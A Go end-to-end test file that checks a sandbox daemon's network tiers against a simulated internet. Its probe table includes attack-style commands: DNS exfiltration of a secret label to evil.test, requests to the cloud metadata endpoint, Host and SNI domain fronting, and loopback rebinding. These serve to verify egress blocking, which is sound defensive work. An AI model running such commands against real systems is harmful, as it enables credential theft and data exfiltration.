package e2e

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sbx.dev/sbx/internal/testutil/fakenet"
)

// netDaemon starts a daemon that offers every tier, in the fake internet's
// host namespace: its only way out is the veth to inet, whose DNS server it
// uses. Every sandbox it makes is deleted and the host audited for leaks
// at the end.
func netDaemon(t *testing.T) (*daemon, *fakenet.Internet) {
	t.Helper()
	inet := fakenet.New(t)
	hosts := filepath.Join(t.TempDir(), "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	d := startDaemonNetns(t, sbxBin, "", inet.HostNS,
		"SBX_NETWORKS=none,allowlist,full",
		"SBX_NETWORK_NAMESERVERS="+fakenet.Nameserver,
		"SBX_NETWORK_HOSTS_FILE="+hosts,
		"SBX_NETWORK_UPSTREAM_CA="+inet.CACertFile,
		"SBX_POOL_SIZE=0")
	t.Cleanup(func() {
		d.cleanup()
		if _, err := os.Stat(filepath.Join(d.dataDir, "network", "router.netns")); !os.IsNotExist(err) {
			t.Errorf("leak: the router namespace outlived a daemon with no sandbox (%v)", err)
		}
	})
	return d, inet
}

// netSandbox creates a sandbox of the given network and puts the fake
// internet's CA at /tmp/ca.pem.
func netSandbox(t *testing.T, d *daemon, inet *fakenet.Internet, network map[string]any) string {
	t.Helper()
	id := d.create(map[string]any{"network": network})
	if st, b := d.api("PUT", "/v1/sandboxes/"+id+"/files/write", map[string]any{"path": "/tmp/ca.pem", "content": string(inet.CACertPEM)}); st != 200 {
		t.Fatalf("writing the CA: %d %s", st, b)
	}
	return id
}

// probe is one way out of a sandbox, and how the far end tells it arrived.
type probe struct {
	name, cmd string
	// reached reads the fake internet's log after the probe ran.
	reached func(inet *fakenet.Internet) bool
	// want per tier: does the probe arrive?
	want map[string]bool
}

// dnsQuery is a python3 one-liner sending a raw DNS query of type qtype for
// name to server (host:port, default: the sandbox's resolver), UDP.
func dnsQuery(name, qtype, server string) string {
	return fmt.Sprintf(`python3 - <<'PY'
import socket, struct, random
t = {"A": 1, "TXT": 16, "AAAA": 28, "ANY": 255}[%q]
q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in %q.split(".")) + b"\0" + struct.pack(">HH", t, 1)
srv = %q or [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0] + ":53"
host, port = srv.rsplit(":", 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, (host, int(port)))
try:
    r = s.recv(4096); print("rcode", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0])
except Exception as e:
    print("no answer:", e)
PY`, qtype, name, server)
}

func seen(f func(inet *fakenet.Internet) int) func(*fakenet.Internet) bool {
	return func(inet *fakenet.Internet) bool { return f(inet) > 0 }
}

func httpTo(host string) func(*fakenet.Internet) bool {
	return seen(func(inet *fakenet.Internet) int { return len(inet.HTTPRequests(host)) })
}

var (
	all   = map[string]bool{"none": false, "allowlist": true, "full": true}
	never = map[string]bool{"none": false, "allowlist": false, "full": false}
	full  = map[string]bool{"none": false, "allowlist": false, "full": true}
)

func networkProbes(inet *fakenet.Internet) []probe {
	canary := inet.HostCanary
	const curl = "curl -sS -m 5 --cacert /tmp/ca.pem "
	return []probe{
		{"curl, transparent", curl + "--noproxy '*' http://allowed.test/", httpTo("allowed.test"), all},
		{"curl, HTTP_PROXY", curl + "http://allowed.test/", httpTo("allowed.test"), all},
		{"curl https, CONNECT (HTTPS_PROXY)", curl + "https://allowed.test/", httpTo("allowed.test"), all},
		{"curl https, transparent", curl + "--noproxy '*' https://allowed.test/", httpTo("allowed.test"), all},
		{"wget", "wget -q -O - -T 5 http://allowed.test/", httpTo("allowed.test"), all},
		{"python urllib", `python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test/', timeout=5).read())"`, httpTo("allowed.test"), all},
		{"node fetch", `node -e "fetch('http://allowed.test/').then(r => r.text()).then(console.log)"`, httpTo("allowed.test"), all},
		{"blocked name", curl + "--noproxy '*' http://blocked.test/; " + curl + "http://blocked.test/; " + curl + "https://blocked.test/", httpTo("blocked.test"), full},
		{"raw socket to an IP", `python3 -c "import socket; s = socket.create_connection(('198.18.1.10', 9000), 5); s.sendall(b'hello'); print(s.recv(64))"`,
			seen(func(inet *fakenet.Internet) int { return inet.Connects(netip.AddrPortFrom(fakenet.AllowedAddr, 9000)) }), full},
		{"ssh to an IP", "timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=5 -p 22 x@198.18.1.10 true",
			seen(func(inet *fakenet.Internet) int { return inet.Connects(netip.AddrPortFrom(fakenet.AllowedAddr, 22)) }), full},
		{"fronted Host (blocked.test to allowed.test's IP)", curl + "--noproxy '*' -H 'Host: blocked.test' http://198.18.1.10/", httpTo("blocked.test"), full},
		{"fronted SNI (blocked.test to allowed.test's IP)", curl + "--noproxy '*' --connect-to blocked.test:443:198.18.1.10:443 https://blocked.test/",
			seen(func(inet *fakenet.Internet) int { return len(inet.TLSHellos("blocked.test")) }), full},
		{"DNS TXT of an allowed name", dnsQuery("txt.allowed.test", "TXT", ""),
			seen(func(inet *fakenet.Internet) int {
				return inet.Count(func(e fakenet.Event) bool { return e.Kind == fakenet.KindDNS && e.QType == "TXT" })
			}), never},
		{"DNS exfiltration (getent $(secret).evil.test)", "getent hosts s3cr3t.evil.test; " + dnsQuery("s3cr3t2.evil.test", "A", "198.18.0.53:53"),
			seen(func(inet *fakenet.Internet) int { return inet.DNSQueries("evil.test") }), full},
		{"IPv6 literal", "curl -sS -m 3 -6 'http://[2001:db8:1::10]/'", seen(func(inet *fakenet.Internet) int { return len(inet.Reached(fakenet.AllowedAddr6)) }), never},
		{"metadata 169.254.169.254", curl + "--noproxy '*' http://169.254.169.254/latest/meta-data/; " + curl + "-X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60'",
			seen(func(inet *fakenet.Internet) int { return len(inet.MetadataRequests()) }), never},
		{"metadata by an allowed name", curl + "--noproxy '*' http://meta.test/latest/meta-data/; " + curl + "http://metadata.google.internal/",
			seen(func(inet *fakenet.Internet) int { return len(inet.MetadataRequests()) }), never},
		{"host canary (the daemon's own address)", fmt.Sprintf(curl+"--noproxy '*' http://%s/; "+curl+"http://host.test:%d/", canary.Uplink, canary.Uplink.Port()),
			seen(func(inet *fakenet.Internet) int { return inet.Count(fakenet.Is(fakenet.KindCanary)) }), never},
		{"allowed name rebinding to loopback", fmt.Sprintf(curl+"--noproxy '*' http://loop.test:%d/", canary.Loopback.Port()),
			seen(func(inet *fakenet.Internet) int { return inet.Count(fakenet.Is(fakenet.KindCanary)) }), never},
		{"UDP to a public IP (QUIC, an echo)", `python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b'quic', ('198.18.1.10', 443)); s.sendto(b'ping', ('198.18.1.10', 9999)); print(s.recvfrom(64))"`,
			seen(func(inet *fakenet.Internet) int {
				return inet.Count(func(e fakenet.Event) bool { return e.Kind == fakenet.KindUDP && e.Local.Addr() == fakenet.AllowedAddr })
			}), full},
		{"UDP to the metadata address", `python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('169.254.169.254', 9999)); s.sendto(b'x', ('198.18.0.1', 9999))"`,
			seen(func(inet *fakenet.Internet) int {
				return inet.Count(func(e fakenet.Event) bool {
					return e.Kind == fakenet.KindUDP && (e.Local.Addr() == fakenet.MetadataAddr || e.Local.Addr() == fakenet.HostAddr)
				})
			}), never},
	}
}

// TestNetworkTiers runs every probe in a sandbox of each tier and checks, at
// the fake internet's servers, that it arrived where its tier allows it and
// nowhere else; each blocked probe has its control (the same probe arriving
// from another tier, or another probe of the same client).
func TestNetworkTiers(t *testing.T) {
	d, inet := netDaemon(t)
	allow := []string{"allowed.test", "*.allowed.test", "meta.test", "metadata.google.internal", "loop.test", "host.test"}
	ids := map[string]string{
		"none":      netSandbox(t, d, inet, map[string]any{"mode": "none"}),
		"allowlist": netSandbox(t, d, inet, map[string]any{"mode": "allowlist", "allow": allow, "block": []string{"blocked.test"}}),
		"full":      netSandbox(t, d, inet, map[string]any{"mode": "full"}),
	}
	tiers := []string{"none", "allowlist", "full"}
	var table strings.Builder
	table.WriteString("| probe | none | allowlist | full |\n|---|---|---|---|\n")
	for _, p := range networkProbes(inet) {
		row := "| " + p.name + " |"
		for _, tier := range tiers {
			inet.Reset()
			r := d.sh(ids[tier], p.cmd)
			time.Sleep(100 * time.Millisecond) // a stray flow has time to land
			got := p.reached(inet)
			mark := map[bool]string{true: "reaches", false: "blocked"}[got]
			if got != p.want[tier] {
				t.Errorf("%s, tier %s: far end reached = %v, want %v\nexit %d\nstdout: %s\nstderr: %s\nfar end: %v",
					p.name, tier, got, p.want[tier], r.ExitCode, r.Stdout, r.Stderr, inet.Log())
				mark += " (WRONG)"
			}
			row += " " + mark + " |"
		}
		table.WriteString(row + "\n")
	}
	t.Logf("tier × probe, as the far end saw it:\n%s", table.String())

	// Under full, UDP answers come back, from the address asked.
	if r := d.sh(ids["full"], `python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b'ping', ('198.18.1.10', 9999)); print(s.recvfrom(64))"`); !strings.Contains(r.Stdout, "('198.18.1.10', 9999)") || !strings.Contains(r.Stdout, "ping") {
		t.Errorf("a UDP echo under full: %q %q", r.Stdout, r.Stderr)
	}

	// NW-02: a blocked name through the proxy answers 403 with a reason, and
	// the refusal is in the sandbox's events with the destination and rule.
	r := d.sh(ids["allowlist"], "curl -sS -m 5 -o /dev/stderr -w '%{http_code}' http://blocked.test/")
	if r.Stdout != "403" || !strings.Contains(r.Stderr, "refused: block blocked.test") {
		t.Errorf("blocked.test through HTTP_PROXY: %q %q, want 403 naming the rule", r.Stdout, r.Stderr)
	}
	var ev struct {
		Refused int64 `json:"refused"`
		Events  []struct {
			Destination, Protocol, Rule string
			Allowed                     bool
		} `json:"events"`
	}
	st, b := d.api("GET", "/v1/sandboxes/"+ids["allowlist"]+"/network/events", nil)
	if st != 200 || json.Unmarshal(b, &ev) != nil {
		t.Fatalf("network events: %d %s", st, b)
	}
	found := false
	for _, e := range ev.Events {
		if e.Destination == "blocked.test:80" && e.Protocol == "http" && !e.Allowed && e.Rule == "block blocked.test" {
			found = true
		}
	}
	if !found || ev.Refused == 0 {
		t.Errorf("no refusal of blocked.test in the events: %s", b)
	}
	if !strings.Contains(d.log.String(), "egress refused") || !strings.Contains(d.log.String(), "sandbox_id="+ids["allowlist"]) {
		t.Errorf("the daemon's log has no egress refusal naming the sandbox")
	}
	// The same from the CLI, and a change of tier.
	out, errOut, code := d.cli("network", "events", ids["allowlist"])
	if code != 0 || !strings.Contains(out, "refused  http") || !strings.Contains(out, "blocked.test:80") || !strings.Contains(out, "refused in all") {
		t.Errorf("sbx network events = %d %q %q", code, out, errOut)
	}
	out, errOut, code = d.cli("network", "set", ids["full"], "--allow", "allowed.test", "--block", "evil.test")
	if code != 0 || strings.TrimSpace(out) != "allowlist, allow allowed.test, block evil.test" {
		t.Errorf("sbx network set = %d %q %q", code, out, errOut)
	}
	inet.Reset()
	d.sh(ids["full"], "curl -sS -m 5 --noproxy '*' http://blocked.test/")
	if len(inet.HTTPRequests("blocked.test")) != 0 {
		t.Errorf("after sbx network set to an allowlist, blocked.test is reached")
	}
	if _, errOut, code := d.cli("network", "set", ids["full"], "--network", "sideways"); code == 0 || !strings.Contains(errOut, "network.mode") {
		t.Errorf("sbx network set --network sideways = %d %q", code, errOut)
	}
}

// TestNetworkRestart: a networked sandbox keeps its network, and its rules,
// across a daemon restart; a sandbox deleted while the daemon was down
// leaves no veth behind; the router namespace goes with the last sandbox.
func TestNetworkRestart(t *testing.T) {
	d, inet := netDaemon(t)
	const value = "restart-secret-VALUE-91"
	if st, b := d.api("POST", "/v1/secrets", map[string]any{"name": "tok", "value": value, "mode": "proxy", "hosts": []string{"allowed.test"}}); st != 201 {
		t.Fatalf("setting a secret: %d %s", st, b)
	}
	st, b := d.api("POST", "/v1/sandboxes", map[string]any{"network": map[string]any{"mode": "allowlist", "allow": []string{"allowed.test"}},
		"secrets": map[string]string{"TOKEN": "tok"}})
	if st != 201 {
		t.Fatalf("create: %d %s", st, b)
	}
	var created struct{ ID string }
	json.Unmarshal(b, &created)
	keep := created.ID
	if st, b := d.api("PUT", "/v1/sandboxes/"+keep+"/files/write", map[string]any{"path": "/tmp/fake.pem", "content": string(inet.CACertPEM)}); st != 200 {
		t.Fatalf("writing the CA: %d %s", st, b)
	}
	d.sh(keep, "cat /tmp/fake.pem /etc/ssl/certs/sbx-egress-ca.pem > /tmp/ca.pem")
	// The proxy-mode secret reaches its host, before and after the restart.
	secretSeen := func() bool {
		for _, ev := range inet.HTTPRequests("allowed.test") {
			if strings.Contains(ev.Header.Get("Authorization"), value) {
				return true
			}
		}
		return false
	}
	const withSecret = `curl -sS -m 5 --cacert /tmp/ca.pem -H "Authorization: Bearer $TOKEN" https://allowed.test/echo`
	if r := d.sh(keep, withSecret); !secretSeen() {
		t.Fatalf("control before the restart: the secret did not reach allowed.test: %+v", r)
	}
	d.stop()
	pin := filepath.Join(d.dataDir, "network", "router.netns")
	if _, err := os.Stat(pin); err != nil {
		t.Fatalf("the router namespace went with the daemon while a sandbox uses it: %v", err)
	}
	d2 := startDaemonNetns(t, sbxBin, d.dataDir, inet.HostNS, d.env...)
	*d = *d2 // the cleanup deletes and audits through the new daemon
	inet.Reset()
	if r := d.sh(keep, "curl -sS -m 5 http://allowed.test/"); len(inet.HTTPRequests("allowed.test")) == 0 {
		t.Fatalf("after the restart, allowed.test is out of reach: %+v", r)
	}
	inet.Reset()
	if r := d.sh(keep, withSecret); !secretSeen() {
		t.Errorf("after the restart, the proxy-mode secret is not substituted: %+v", r)
	}
	inet.Reset()
	r := d.sh(keep, "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://blocked.test/")
	if r.Stdout != "403" || len(inet.HTTPRequests("blocked.test")) != 0 {
		t.Fatalf("after the restart, blocked.test: %q, far end %v", r.Stdout, inet.Log())
	}
	// A second sandbox gets another address, not the re-adopted one's.
	other := netSandbox(t, d, inet, map[string]any{"mode": "full"})
	addr := func(id string) string {
		return strings.TrimSpace(d.sh(id, "ip -4 -o addr show eth0 | awk '{print $4}'").Stdout)
	}
	if a, b := addr(keep), addr(other); a == "" || a == b {
		t.Errorf("addresses after the restart: %q and %q", a, b)
	}
	// PUT network: none takes the veth away, allowlist brings one back.
	if st, b := d.api("PUT", "/v1/sandboxes/"+other+"/network", map[string]any{"mode": "none"}); st != 200 {
		t.Fatalf("PUT network none: %d %s", st, b)
	}
	if out := d.sh(other, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").Stdout; strings.TrimSpace(out) != "lo" {
		t.Errorf("after PUT none, interfaces: %q", out)
	}
	if st, b := d.api("PUT", "/v1/sandboxes/"+other+"/network", map[string]any{"mode": "allowlist", "allow": []string{"allowed.test"}}); st != 200 {
		t.Fatalf("PUT network allowlist: %d %s", st, b)
	}
	inet.Reset()
	d.sh(other, "curl -sS -m 5 --noproxy '*' http://allowed.test/")
	if len(inet.HTTPRequests("allowed.test")) == 0 {
		t.Errorf("after PUT allowlist, allowed.test is out of reach")
	}
	for _, bad := range []map[string]any{
		{"mode": "sideways"},
		{"mode": "none", "allow": []string{"allowed.test"}},
		{"mode": "allowlist", "allow": []string{"exa mple.com"}},
		{"mode": "allowlist", "allow": []string{"10.0.0.0/33"}},
		{"allow": []string{"allowed.test"}},
	} {
		st, b := d.api("PUT", "/v1/sandboxes/"+other+"/network", bad)
		if st != 400 || !strings.Contains(string(b), "network.") {
			t.Errorf("PUT network %v: %d %s, want 400 naming the field", bad, st, b)
		}
	}
}
